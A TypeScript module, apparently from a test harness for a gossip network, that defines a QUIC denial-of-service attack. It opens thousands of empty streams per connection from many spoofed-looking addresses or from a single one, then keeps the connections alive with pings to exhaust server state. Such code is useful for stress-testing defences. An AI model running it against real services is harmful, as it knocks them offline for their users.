import { GOSSIP_ALPN } from '@grapevine/net';
import type { Attack, Field } from '../attack.js';
import { freshHost, many } from '../frame-flood.js';
import { ATTACKER_HOST } from '../raw-peer.js';

const CLIENTS = 24;
/** Streams of each kind: nearly as many as a connection may have. */
const STREAMS = { bi: 120, uni: 4_000 };
/** As many frames as fit into a packet. */
const PER_PACKET = 200;
/** Bits of the ids of a client's streams (RFC 9000, section 2.1). */
const BI = 0;
const UNI = 2;

/**
 * Opens as many streams as it may, by frames without a byte: QUIC keeps state for each, and does not report it. Each connection comes from
 * another address.
 */
export const emptyStreams: Attack = {
  name: 'empty-streams',
  what: 'connections with 4,120 streams each, in both directions and in one, on which nothing is sent',
  isFromEverywhere: true,
  run: (field) => againAndAgain(field, freshHost),
};

/** What one source can do of it. */
export const emptyStreamsOfOne: Attack = {
  name: 'empty-streams-of-one',
  what: 'the same, all connections from one address',
  run: (field) => againAndAgain(field, () => ATTACKER_HOST),
};

async function againAndAgain(field: Field, hostOf: (connection: number) => string): Promise<void> {
  let made = 0;
  const again = async () => {
    while (!field.signal.aborted) {
      await one(field, hostOf(made++)).catch(() => {});
      await field.pause(100);
    }
  };
  await Promise.all(Array.from({ length: CLIENTS }, again));
}

async function one({ kit, target, traffic, signal, pause }: Field, host: string): Promise<void> {
  await using client = await kit.connect(target.socket, { alpn: GOSSIP_ALPN, host });
  traffic.handshakes++;
  traffic.strangers = Math.min(CLIENTS, traffic.strangers + 1);
  const empty = new Uint8Array();
  let counted = 0;
  const count = () => {
    traffic.sent += client.sent - counted;
    counted = client.sent;
  };
  const isOver = () => signal.aborted || client.closeCode !== undefined;
  const open = (first: number, kind: number, streams: number) =>
    client.send(many(streams, (k) => kit.frames.stream(4 * (first + k) + kind, 0, empty)));
  open(0, BI, STREAMS.bi);
  for (let i = 0; i < STREAMS.uni && !isOver(); i += PER_PACKET) {
    open(i, UNI, PER_PACKET);
    count();
    await pause(20);
  }
  while (!isOver()) {
    client.send(kit.frames.ping());
    count();
    await pause(500);
  }
}
